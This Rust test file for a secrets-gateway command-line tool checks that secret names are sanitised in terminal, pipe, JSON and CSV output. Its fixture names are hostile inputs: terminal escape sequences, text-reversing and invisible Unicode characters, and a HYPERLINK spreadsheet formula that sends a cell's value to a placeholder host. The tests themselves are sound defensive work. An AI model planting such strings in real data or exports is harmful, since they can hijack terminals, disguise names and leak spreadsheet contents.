//! Texts that gateway users choose, on the administrator's terminal, in a pipe and in a spreadsheet.

use crate::cli::fixture::with_rows;
use crate::common::{TestDb, TestEnv};

/// Names that would set a title, change colours, reverse text, break a line, hide, or compute.
const NAMES: [&str; 7] = [
    "a\u{1b}]0;title\u{7}\u{1b}[31mRED",
    "b\u{9b}31m\u{7f}",
    "prod-\u{202e}yek-tset",
    "line\u{2028}break",
    "hid\u{200b}den\u{feff}",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "two;=1+1",
];

/// The same secret under each of these names.
fn with_names() -> (TestEnv, TestDb) {
    let (env, db) = with_rows(&["single_key"]);
    for (number, name) in NAMES.iter().enumerate() {
        let name = name.replace('\'', "''");
        db.execute(&format!(
            "INSERT INTO secrets (secret_id, secret_name, encrypted_value, wrapped_dek, kek_version, masked_value, \
             provider, created_by, created_at, last_updated_at, workspace) \
             SELECT 's-{number}', '{name}', encrypted_value, wrapped_dek, kek_version, '{{\"k\": \"{}\"}}', \
             '{name}', '{name}', created_at, last_updated_at, workspace FROM secrets WHERE secret_name = 'single_key'",
            "x\u{9b}\u{202e}"
        ));
    }
    (env, db)
}

fn acts(c: char) -> bool {
    c.is_control() && c != '\n' || matches!(c, '\u{202e}' | '\u{2028}' | '\u{200b}' | '\u{feff}')
}

#[test]
fn no_format_controls_the_terminal() {
    let (env, _db) = with_names();
    for format in ["table", "name", "csv", "json", "jsonl", "yaml"] {
        for args in [
            &["secret", "list", "-o", format][..],
            &["secret", "get", NAMES[1], "-o", format],
        ] {
            let (screen, code) = env.mlgate(args).terminal().finish();
            assert_eq!(code, 0, "{screen}");
            let bad: Vec<char> = screen.chars().filter(|c| acts(*c)).collect();
            assert!(bad.is_empty(), "{args:?}: {bad:?} in\n{screen}");
        }
    }
}

#[test]
fn messages_do_not_control_the_terminal() {
    let (env, _db) = with_names();
    for name in NAMES {
        let (screen, code) = env
            .mlgate(["secret", "get", &format!("no {name}")])
            .args(["--color", "never"])
            .terminal()
            .finish();
        assert_eq!(code, 4, "{screen}");
        assert!(!screen.contains(acts), "{screen}");
    }
}

#[test]
fn json_is_escaped_without_changing_its_meaning() {
    let (env, _db) = with_names();
    let output = env.mlgate(["secret", "list", "-o", "json"]).run().success();
    assert!(!output.stdout().contains(acts), "{output}");
    let secrets = &output.json()["secrets"];
    let names: Vec<&str> = secrets
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|secret| secret["secret_name"].as_str())
        .collect();
    for name in NAMES {
        assert!(names.contains(&name), "{name:?} in {names:?}");
    }
}

#[test]
fn a_pipe_gets_exact_names_one_per_line() {
    let (env, _db) = with_names();
    let output = env.mlgate(["secret", "list", "-o", "name"]).run().success();
    let lines: Vec<&str> = output.stdout().lines().collect();
    assert_eq!(lines.len(), NAMES.len() + 1);
    assert!(lines.contains(&NAMES[2]), "{lines:?}");
    assert!(lines.contains(&NAMES[5]), "{lines:?}");
}

#[test]
fn no_cell_is_a_spreadsheet_formula() {
    let (env, _db) = with_names();
    let output = env.mlgate(["secret", "list", "-o", "csv"]).run().success();
    let mut reader = csv::Reader::from_reader(output.stdout().as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(cells.iter().any(|cell| *cell == format!("'{}", NAMES[5])));
    // Nor where `;` or a tab separates cells.
    let parts = cells.iter().flat_map(|cell| cell.split([';', '\t', '\n']));
    let formulas = parts.filter(|part| part.starts_with(['=', '+', '-', '@']));
    assert_eq!(formulas.collect::<Vec<_>>(), [""; 0]);
}
